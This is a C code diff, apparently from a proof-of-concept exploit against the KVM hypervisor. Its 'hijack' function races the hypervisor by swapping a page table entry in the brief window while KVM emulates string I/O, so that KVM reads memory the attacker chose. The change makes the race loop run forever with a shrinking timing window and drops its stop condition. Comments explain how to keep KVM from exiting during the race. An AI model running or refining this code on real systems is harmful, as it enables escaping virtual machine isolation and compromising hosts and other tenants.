@@ -272,15 +272,17 @@ static void read_signatures(u64 gpa, u64 rounds)
 /*
  * Puts another page table entry in the place of one of the courier's while it is about to use
  * it: after content has appeared in the staging area, and some more time, from late, when the
- * trip is over and nothing is done, to early. When the trip is over, the entry is as it was.
+ * trip is over and nothing is done, to early, and so for ever. When the trip is over, the entry
+ * is as it was.
  */
 static void hijack(u64 entry, u64 other, u64 staging, u64 latest)
 {
 	volatile u64 *at = (volatile u64 *)entry;
 	volatile u8 *content = (volatile u8 *)staging;
 	const u64 own = *at;
+	u64 delay = latest;
 
-	for (u64 delay = latest; delay > 0; delay -= delay / 32 + 1) {
+	for (;;) {
 		u64 start;
 
 		/* No PAUSE: KVM may take it for a reason to leave. */
@@ -289,6 +291,10 @@ static void hijack(u64 entry, u64 other, u64 staging, u64 latest)
 		start = time_stamp();
 		while (time_stamp() - start < delay)
 			;
+		if (delay > 1)
+			delay -= delay / 32 + 1;
+		else
+			delay = latest -= latest / 64;
 		if (!*content)
 			continue;
 		*at = other;
@@ -296,7 +302,6 @@ static void hijack(u64 entry, u64 other, u64 staging, u64 latest)
 			;
 		*at = own;
 	}
-	stop_counting = 1;
 }
 
 /* Repeated string output: KVM reads its operand on its own. */
